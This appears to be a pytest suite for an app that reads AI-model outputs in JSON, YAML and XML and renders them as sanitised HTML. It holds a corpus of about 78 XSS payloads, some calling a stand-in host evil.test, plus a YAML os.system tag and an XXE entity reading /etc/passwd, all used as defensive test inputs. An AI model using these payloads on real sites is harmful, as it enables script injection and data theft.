"""What a model wrote is read strictly, repaired only where it is plain what was meant, and shown without being trusted."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markupsafe import Markup, escape

from aiapp.executions.outputs import markdown
from aiapp.executions.outputs.formats import (
    CHECKED_CHARACTERS,
    FORMATS,
    PRETTY_CHARACTERS,
    Output,
    html_document,
    normalise,
    to_safe_html,
)
from aiapp.prompt_templates.text import front_matter
from aiapp.providers import json_text
from aiapp.providers.output_formats import ABOUT
from aiapp.providers.types import OUTPUT_FORMATS

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<form action=//evil.test><input name=key><button>Send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<div hx-get=/w/acme/credentials hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1) data-hx-post=/logout>x</div>",
    "<p style='position:fixed;inset:0;background:url(//evil.test)'>x</p>",
    "<p id=toasts class=modal>x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='x' title='\"><script>alert(1)</script>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    "[x](/logout)",
    "[x](?next=//evil.test)",
    "[x](https://ok.test 'a\" onclick=alert(1) b=\"')",
    "[x](https://ok.test\"onmouseover=alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://ok.test/\"onclick=alert(1)>",
    "![x](https://evil.test/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\" onerror=alert(1) y=\"](data:image/png;base64,AAAA)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.test/p.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onclick=alert(1)\nx\n```",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>",
    "<div><p>unclosed <b>bold <a href='https://ok.test'>link",
    "*<img src=x onerror=alert(1)>*",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{constructor.constructor('alert(1)')()}}",
    "\x00<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]  # fmt: skip

ALLOWED = {name: set(attributes) for name, attributes in markdown.ATTRIBUTES.items()} | {
    "th": {"align"},
    "td": {"align"},
}


class Lint(HTMLParser):
    """Fails on everything that the allow-list does not name."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        assert tag in markdown.TAGS, tag
        for name, value in attrs:
            if tag == "a" and name == "rel":
                assert value == "noopener noreferrer nofollow"
                continue
            assert name in ALLOWED.get(tag, set()), f"{tag} {name}"
            if name == "href":
                assert value.lower().startswith(("http://", "https://", "mailto:")), value
            if name == "src":
                assert value.startswith("data:image/"), value
                assert "svg" not in value
            if name == "class":
                assert value.startswith("language-")
                assert " " not in value

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def lint(html: str) -> list[str]:
    parser = Lint()
    parser.feed(html)
    parser.close()
    return parser.tags


# showing


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_in_any_format(format, text):
    html = to_safe_html(format, text)

    assert isinstance(html, Markup)
    lint(html)
    lint(to_safe_html(format, f"a\n\n> - {text}\n\n{text}"))
    html.encode()


def test_the_hostile_corpus_is_large_and_has_no_double():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 70


@given(st.text(alphabet="<>&\"'/=[]()!`*_~#|-:\n abhrefsconxjvipt\\{}", max_size=200))
def test_no_markdown_makes_what_is_not_allowed(text):
    lint(to_safe_html("markdown", text))


@given(st.text(), st.sampled_from(sorted(FORMATS)))
def test_every_text_can_be_shown_in_every_format(text, format):
    lint(to_safe_html(format, text))
    assert isinstance(normalise(format, text), Output)
    html_document(text).encode()


def test_text_and_html_are_shown_as_their_source():
    for format in ("text", "html"):
        assert to_safe_html(format, "<b>&\n  x") == Markup("&lt;b&gt;&amp;\n  x")


def test_markdown_keeps_its_structure():
    html = to_safe_html(
        "markdown",
        "# Title\n\nA **bold** *word*, ~~gone~~, `code`.\n\n3. three\n4. four\n\n- x\n\n> quote\n\n"
        "| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n```python\nif a < b:\n```\n\n[site](https://ok.test/?a=1&b=2 'T') <a@ok.test>",
    )

    for part in [
        "<h2>Title</h2>",
        "<strong>bold</strong> <em>word</em>, <s>gone</s>, <code>code</code>",
        '<ol start="3">',
        "<ul>",
        "<blockquote>",
        '<th align="right">a</th>',
        '<td align="center">2</td>',
        '<pre><code class="language-python">if a &lt; b:',
        '<a href="https://ok.test/?a=1&amp;b=2" title="T" rel="noopener noreferrer nofollow">site</a>',
        '<a href="mailto:a@ok.test" rel="noopener noreferrer nofollow">a@ok.test</a>',
    ]:
        assert part in html, part


def test_headings_stay_below_the_pages_own():
    html = to_safe_html("markdown", "# one\n\n###### six\n\nSetext\n===")

    assert [tag for tag in lint(html) if tag.startswith("h")] == ["h2", "h6", "h2"]


def test_a_remote_picture_becomes_a_link_and_one_in_the_text_is_shown():
    link = '<a href="https://pics.test/x.png" rel="noopener noreferrer nofollow">a cat</a>'
    assert link in to_safe_html("markdown", "![a cat](https://pics.test/x.png)")
    assert ">https://pics.test/x.png</a>" in to_safe_html("markdown", "![](https://pics.test/x.png)")
    assert (
        to_safe_html("markdown", "[![a cat](https://pics.test/x.png)](https://ok.test)")
        == '<p><a href="https://ok.test" rel="noopener noreferrer nofollow">a cat</a></p>\n'
    )
    shown = to_safe_html("markdown", "![a cat](data:image/png;base64,AAAA)")
    assert '<img src="data:image/png;base64,AAAA" alt="a cat">' in shown


def test_markdown_too_long_to_be_rendered_is_shown_as_text():
    long = "# <b>\n" * (markdown.MAX_CHARACTERS // 6 + 1)

    assert to_safe_html("markdown", long) == Markup("<pre>{}</pre>").format(long)


@pytest.mark.parametrize("piece", ["![", "[", "[[](", "**a", "> ", "- ", "`", "<", "&#", "a\n", "x***", "|"])
def test_markdown_made_to_be_slow_or_deep_still_ends(piece):
    lint(to_safe_html("markdown", piece * (10_000 // len(piece))))


def test_json_is_shown_indented_and_escaped():
    assert to_safe_html("json", '{"a":["<b>",1.5,null]}') == escape(
        '{\n  "a": [\n    "<b>",\n    1.5,\n    null\n  ]\n}'
    )
    assert to_safe_html("json", "```json\n[1]\n```") == "[\n  1\n]"
    assert to_safe_html("json", "not <JSON>") == "not &lt;JSON&gt;"


def test_json_that_indentation_would_multiply_is_shown_as_it_is():
    deep = "[" * 90 + ",".join(["1"] * 20_000) + "]" * 90
    large = json.dumps(["x" * PRETTY_CHARACTERS])

    assert to_safe_html("json", deep) == deep
    assert to_safe_html("json", large) == escape(large)


@pytest.mark.parametrize("page", ["<!DOCTYPE html><p>x", "<html lang=de><p>x</html>", " \n<!doctype html>\n<p>x"])
def test_a_whole_page_is_served_as_it_is(page):
    assert html_document(page) == page.strip()
    assert html_document(f"```html\n{page}\n```") == page.strip()


def test_a_fragment_becomes_a_page_in_utf_8():
    page = html_document("<p>é\x00\ud800</p>")

    assert page.startswith("<!doctype html>\n<html")
    assert '<meta charset="utf-8">' in page
    assert page.endswith("<body><p>é\ufffd\ufffd</p></body></html>")


# reading


def test_formats_without_a_form_are_kept_as_they_are():
    for format in ("text", "markdown", "html"):
        assert normalise(format, " as *it* is \n", {"type": "object"}) == Output(" as *it* is \n")
        assert normalise(format, "\x00\ud800x").text == "\ufffd\ufffdx"


def test_every_format_has_what_pages_and_downloads_need():
    assert list(FORMATS) == list(ABOUT) == list(OUTPUT_FORMATS)
    assert [(one.media_type, one.extension, one.view) for one in FORMATS.values()] == [
        ("text/plain", "txt", "text"),
        ("application/json", "json", "code"),
        ("text/markdown", "md", "prose"),
        ("text/html", "html", "page"),
        ("application/yaml", "yaml", "code"),
        ("application/xml", "xml", "code"),
    ]
    fenced = "```x\n<a>1</a>\n```"
    assert {one.about.name for one in FORMATS.values() if one.source(fenced) == fenced} == {"text", "markdown"}


def read(text, schema=None):
    output = normalise("json", text, schema)
    return output.data, output.valid, list(output.problems)


@pytest.mark.parametrize(
    ("text", "data"),
    [
        ('{"a": 1}', {"a": 1}),
        (" \ufeff[1, 2.5, true, null] \n", [1, 2.5, True, None]),
        ('"text"', "text"),
        ("0", 0),
        ('```json\n{"a": 1}\n```', {"a": 1}),
        ('\n```\n{"a": "```"}\n```\n\n', {"a": "```"}),
        ("~".join(['```JSON5\n{"a":', "1}\n```"]).replace("~", "\n"), {"a": 1}),
        (r'"\u00e9\ud83c\udf89"', "é🎉"),
    ],
)
def test_json_is_read_with_or_without_a_code_block_around_it(text, data):
    assert read(text) == (data, True, [])
    assert normalise("json", text).text == text


@pytest.mark.parametrize(
    ("text", "data"),
    [
        ('Here is the JSON:\n\n{"a": {"b": [1]}}\n\nHope that helps!', {"a": {"b": [1]}}),
        ("Sure!\n```json\n[1, 2]\n```\nAnything else?", [1, 2]),
        ('I used {name} as you asked: {"a": 1}', {"a": 1}),
        ('{"a": 1} // done', {"a": 1}),
    ],
)
def test_one_value_in_prose_is_taken_and_the_repair_noted(text, data):
    assert read(text) == (data, True, ["The JSON stood in other text, which was left out."])


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("", "The answer is empty."),
        ("```json\n```", "The answer is empty."),
        ("Sorry, I cannot do that.", "This is not JSON: a value was expected (line 1, column 1)."),
        ('First {"a": 1}, then {"a": 2}', "several JSON values"),
        ('{"a": 1}\n{"a": 2}', "several JSON values"),
        ('As [1] says: {"a": 1}', "several JSON values"),
        ('{"a": {"b": 1}, "c": ', "This is not JSON"),
        ('Here: {"a": {"b": 1}, "c": [1, 2', "This is not JSON"),
        ('{"a": {"b": 1},}', "This is not JSON"),
        ("{'a': 1}", "This is not JSON"),
        (
            'Sure! {"a": 1,} bye',
            "This is not JSON: a name in double quotes was expected (line 1, column 15).",
        ),
        ('{"a": 1, "a": 2}', "The key a is there twice."),
        ('Here: {"b": {"a": 1, "a": 2}}', "The key a is there twice."),
        ('{"a": NaN}', "JSON has no NaN."),
        ("[-Infinity]", "JSON has no -Infinity."),
        ("[1e999]", "The number 1e999 is too large."),
        ('Here: {"a": 1e999}', "The number 1e999 is too large."),
        ("9" * 5000, "A number is too long to be read."),
        ("[" * 101 + "]" * 101, "nested more than 100 levels deep"),
        ("[" * 100_000, "nested more than 100 levels deep"),
        ('{"a":' * 100_000, "nested more than 100 levels deep"),
        ("x " + "[" * 100_000 + "]" * 100_000, "This is not JSON"),
        ("{x} " * 100, "This is not JSON"),
        ("x [" * 100_000, "This is not JSON"),
    ],
)
def test_what_is_no_json_or_not_plainly_one_value_is_invalid(text, problem):
    data, valid, problems = read(text)

    assert (data, valid, len(problems)) == (None, False, 1)
    assert problem in problems[0]


def test_the_deepest_json_that_is_read_can_be_shown_and_stored():
    text = "[" * 100 + "]" * 100

    assert read(text)[1] is True
    assert to_safe_html("json", text).count("[") == 100


def test_strings_in_json_can_be_stored():
    assert read(r'{"\u0000k": ["\ud800", "\udc00x"]}')[0] == {"\ufffdk": ["\ufffd", "\ufffdx"]}


@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.floats(allow_nan=False, allow_infinity=False)
        | st.text(alphabet='ab`\n{}[]"é'),
        lambda inner: (
            st.lists(inner, max_size=3) | st.dictionaries(st.text(alphabet="ab", max_size=2), inner, max_size=3)
        ),
        max_leaves=10,
    ),
    st.sampled_from(["{}", "```json\n{}\n```", "\ufeff {} \n"]),
)
def test_every_json_value_is_read_as_it_was_written(value, around):
    text = around.replace("{}", json.dumps(value))

    assert read(text) == (value, True, [])


# with a schema

SCHEMA = {
    "type": "object",
    "properties": {"name": {"type": "string"}, "items": {"type": "array", "items": {"type": "integer"}}},
    "required": ["name"],
    "additionalProperties": False,
}


def test_every_mistake_against_the_schema_is_named_with_its_place():
    assert read('{"name": "x", "items": [1]}', SCHEMA) == ({"name": "x", "items": [1]}, True, [])
    assert read('{"items": [1, "2", 3.5], "more": 1}', SCHEMA)[1:] == (
        False,
        [
            "$.items[1]: '2' is not of type 'integer'",
            "$.items[2]: 3.5 is not of type 'integer'",
            "$: 'name' is a required property",
            "$: 'more' is not allowed here",
        ],
    )


def test_a_repair_and_a_mistake_are_both_noted():
    data, valid, problems = read('Here: {"name": 1}', SCHEMA)

    assert (data, valid) == ({"name": 1}, False)
    assert problems == ["The JSON stood in other text, which was left out.", "$.name: 1 is not of type 'string'"]


def test_an_answer_without_json_is_not_compared():
    assert read("sorry", SCHEMA)[1:] == (False, ["This is not JSON: a value was expected (line 1, column 1)."])


def test_an_answer_too_large_to_be_compared_says_so():
    data, valid, problems = read(json.dumps({"name": "x" * CHECKED_CHARACTERS}), SCHEMA)

    assert (len(data["name"]), valid) == (CHECKED_CHARACTERS, None)
    assert problems == ["The answer is too large to be compared with its JSON schema."]


def test_a_broken_schema_is_a_problem_and_the_data_stays():
    assert read("[1]", {"type": "strange"})[:2] == ([1], None)
    assert "'strange' is not valid" in read("[1]", {"type": "strange"})[2][0]


def test_the_depth_that_is_read_is_the_one_that_is_promised():
    assert json_text.MAX_DEPTH == 100


# YAML and XML


def said(format, text, schema=None):
    output = normalise(format, text, schema)
    assert output.text == text
    return output.data, output.valid, " ".join(output.problems)


@pytest.mark.parametrize(
    ("text", "data"),
    [
        ("name: Ada\nitems:\n  - 1\n  - 2.5\n  - true\n  - null\n", {"name": "Ada", "items": [1, 2.5, True, None]}),
        ("```yaml\n- yes\n- 2026-01-31\n- 007\n```", ["yes", "2026-01-31", "007"]),
        ('{"a": [1]}', {"a": [1]}),
        ("42", 42),
        ("  a: 1\n  b:\n    - |\n      x\n", {"a": 1, "b": ["x\n"]}),
        ("\n```\n  a: 1\n  b: 2\n```\n\n", {"a": 1, "b": 2}),
    ],
)
def test_yaml_is_read_as_json_knows_values(text, data):
    assert said("yaml", text) == (data, True, "")


@pytest.mark.parametrize(
    ("format", "inside"),
    [("yaml", "a: 1\nb:\n  - x"), ("xml", "<a>\n  <b c='1'/>\n</a>"), ("xml", "<?xml version='1.0'?><a/>")],
)
def test_one_code_block_in_prose_is_taken_and_the_repair_noted(format, inside):
    left_out = f"The {format.upper()} stood in other text, which was left out."
    text = f"Here it is: [1]\n\n```{format}\n{inside}\n```\n\nHope that helps!"
    assert said(format, text)[1:] == (True, left_out)
    assert said("yaml", f"{text}\n```\nanother: one\n```")[1] is False


@pytest.mark.parametrize(
    ("encoding", "inside", "valid"),
    [
        ("UTF-8", "é", True),
        ("iso-8859-1", "e", True),
        ("iso-8859-1", "é", False),
        ("UTF-16", "e", False),
        ("bogus", "", False),
    ],
)
def test_xml_that_names_another_encoding_than_it_is_handed_out_in_is_not_valid(encoding, inside, valid):
    assert said("xml", f'<?xml version="1.0" encoding="{encoding}"?><a>{inside}</a>')[1] is valid


def test_xml_on_lines_of_its_own_is_taken_from_prose_and_markup_inside_a_sentence_is_not():
    assert said("xml", "Sure:\n\n<a>\n<b/></a>\n\nDone.")[1:] == (
        True,
        "The XML stood in other text, which was left out.",
    )
    assert said("xml", "Use <b>bold</b> here.")[1] is False
    assert said("xml", "<b>Bold</b> words.")[1] is False


@pytest.mark.parametrize(
    ("format", "text", "valid", "problem"),
    [
        ("yaml", "", False, "empty"),
        ("yaml", "Sorry, I cannot do that.", False, "plain text"),
        ("yaml", "a: &x [1]\nb: *x", False, "Anchors and aliases"),
        ("yaml", "a: !!python/object/apply:os.system ['true']", False, "Tags"),
        ("yaml", "a: 1\n---\nb: 2", False, "not YAML"),
        ("yaml", "a: [1", False, "not YAML"),
        ("yaml", "a: 1e999", False, "too large"),
        ("yaml", "[" * 100_000, False, "nested too deeply"),
        ("yaml", "- " * 100_000, False, "nested too deeply"),
        ("yaml", "- 1\n" * 60_000, False, "too much"),
        ("yaml", "a: " + "x" * 500_000, None, "too large"),
        ("xml", "```xml\n```", False, "empty"),
        ("xml", "<a>", False, "not XML: no element found (line 1, column 4)"),
        ("xml", "<a/><b/>", False, "not XML"),
        ("xml", "<a>&nbsp;</a>", False, "undefined entity"),
        ("xml", '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', False, "document type"),
        ("xml", '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', False, "document type"),
        ("xml", "<a>" * 101 + "</a>" * 101, False, "nested more than 100 levels deep"),
        ("xml", "<a>" + "<b/>" * 50_000 + "</a>", None, "too much"),
        ("xml", "<a>" + "x" * 500_000 + "</a>", None, "too large"),
        ("xml", "<a\n" * 100_000, False, "not XML"),
        ("xml", "```\n" * 99_999, False, "not XML"),
    ],
)
def test_what_is_no_yaml_or_xml_says_why(format, text, valid, problem):
    data, answered, problems = said(format, text)
    assert (data, answered) == (None, valid)
    assert problem in problems


def test_yaml_is_compared_with_a_schema_as_json_is():
    assert said("yaml", "name: x\nitems: [1]", SCHEMA) == ({"name": "x", "items": [1]}, True, "")
    assert said("yaml", "name: 1", SCHEMA)[1:] == (False, "$.name: 1 is not of type 'string'")


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers(-(10**20), 10**20) | st.text(alphabet='ab`:\n{}[]"é -#'),
        lambda inner: (
            st.lists(inner, max_size=3) | st.dictionaries(st.text(alphabet="ab1", max_size=2), inner, max_size=3)
        ),
        max_leaves=10,
    ).filter(lambda value: not isinstance(value, str))
)
@example([":\n"])
def test_every_value_that_is_written_as_yaml_is_read_again(value):
    written = front_matter.write(value)
    for text in (written, f"\ufeff{written}", f"```yaml\n{written}```\n"):
        assert said("yaml", text) == (value, True, "")


@given(st.text(alphabet="<>/ab&;!?-[]=\"' \n`:"))
def test_no_text_makes_reading_yaml_or_xml_fail(text):
    for format in ("yaml", "xml"):
        assert isinstance(normalise(format, text), Output)
